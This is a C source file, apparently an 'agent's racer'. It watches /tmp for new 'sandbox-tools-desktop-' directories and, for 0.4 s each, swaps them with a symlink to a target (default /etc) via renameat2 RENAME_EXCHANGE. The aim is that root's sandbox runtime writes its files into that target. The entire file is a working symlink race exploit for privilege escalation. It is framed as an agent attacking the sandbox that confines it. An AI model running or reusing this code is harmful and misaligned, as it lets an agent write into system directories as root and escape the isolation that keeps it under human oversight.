/* The agent's racer (the desktop's own uid): each new private directory of a desktop in
 * /tmp is swapped, many times a second for 0.4 s, with a link to TARGET (renameat2,
 * RENAME_EXCHANGE: the agent owns both names once the directory is handed to it), so
 * that root's runtime, were it to make its files there by path, would make them in
 * TARGET. Prints one line per directory raced. */
#define _GNU_SOURCE
#include <fcntl.h>
#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2 /* linux/fs.h, which musl-gcc does not see */
#endif
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    const char *target = argc > 1 ? argv[1] : "/etc";
    int watch = inotify_init();
    inotify_add_watch(watch, "/tmp", IN_CREATE);
    char events[8192];
    for (;;) {
        ssize_t n = read(watch, events, sizeof events);
        for (char *p = events; n > 0 && p < events + n;) {
            struct inotify_event *e = (void *)p;
            p += sizeof *e + e->len;
            if (!e->len || strncmp(e->name, "sandbox-tools-desktop-", 22) != 0) continue;
            char dir[600], link[600];
            snprintf(dir, sizeof dir, "/tmp/%s", e->name);
            snprintf(link, sizeof link, "/tmp/.swap-%s", e->name);
            symlink(target, link);
            long swapped = 0;
            for (double end = now() + 0.4; now() < end;)
                for (int k = 0; k < 200; k++)
                    if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE) == 0)
                        swapped++;
            struct stat st;
            if (lstat(dir, &st) == 0 && S_ISLNK(st.st_mode))
                syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE);
            unlink(link);
            printf("raced %s: %ld swaps\n", e->name, swapped);
            fflush(stdout);
        }
    }
}
